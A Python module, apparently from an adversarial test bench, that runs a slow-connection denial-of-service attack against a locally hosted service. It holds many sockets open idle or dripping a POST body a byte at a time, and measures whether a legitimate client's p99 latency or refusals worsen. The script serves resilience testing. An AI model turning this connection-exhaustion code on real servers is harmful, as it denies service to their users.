"""Sockets that say nothing, or one byte at a time, beside a neighbour who asks as always."""

import asyncio
import contextlib
import time

import httpx

from bench.adversary.found import Found
from bench.adversary.world import VICTIM, World

SECONDS, PER_SECOND = 8.0, 50.0
MOST_TIMES_QUIET = 2.0
LEAST_MEANT = 0.02
"""Seconds: a p99 below it is quick whatever it is compared with."""


async def attack(world: World, sockets: int) -> Found:
    """So many sockets are opened and kept; the neighbour's p99 beside its p99 in quiet."""
    quiet, refused = await _neighbour(world)
    held = [asyncio.create_task(_drip(world, number)) for number in range(sockets)]
    await asyncio.sleep(1.0)
    loud, refused_then = await _neighbour(world)
    for task in held:
        task.cancel()
    await asyncio.gather(*held, return_exceptions=True)
    found = Found(tried=sockets)
    if loud > max(MOST_TIMES_QUIET * quiet, LEAST_MEANT):
        found.breaches.append(f"the neighbour's p99 went from {quiet * 1e3:.1f} to {loud * 1e3:.1f} ms")
    if refused_then > refused:
        found.breaches.append(f"{refused_then} of the neighbour's requests were refused")
    found.figures = {"neighbour_p99_ms_quiet": round(quiet * 1e3, 1), "neighbour_p99_ms": round(loud * 1e3, 1)}
    return found


async def _neighbour(world: World) -> tuple[float, int]:
    """99th percentile in seconds, and how many were refused."""
    headers = {"Authorization": f"Bearer {world.token(VICTIM)}"}
    took, refused, due = [], 0, time.monotonic()
    base = f"http://127.0.0.1:{world.product.port}"
    async with httpx.AsyncClient(base_url=base, headers=headers, timeout=30, trust_env=False) as client:
        end = due + SECONDS
        while due < end:
            began = time.monotonic()
            answer = await client.get("/api/v1/audit/records")
            took.append(time.monotonic() - began)
            refused += answer.status_code != 200
            due += 1.0 / PER_SECOND
            await asyncio.sleep(max(0.0, due - time.monotonic()))
    took.sort()
    return took[int(len(took) * 0.99)], refused


async def _drip(world: World, number: int) -> None:
    """One connection after the other that never finishes a request."""
    while True:
        with contextlib.suppress(OSError):
            _, writer = await asyncio.open_connection("127.0.0.1", world.product.port)
            try:
                if number % 2:
                    writer.write(b"POST /api/v1/memory/store HTTP/1.1\r\nhost: x\r\ncontent-length: 1000\r\n")
                    for _ in range(600):
                        writer.write(b"x")
                        await writer.drain()
                        await asyncio.sleep(0.5)
                await asyncio.sleep(60)
            finally:
                writer.close()
        await asyncio.sleep(0.2)
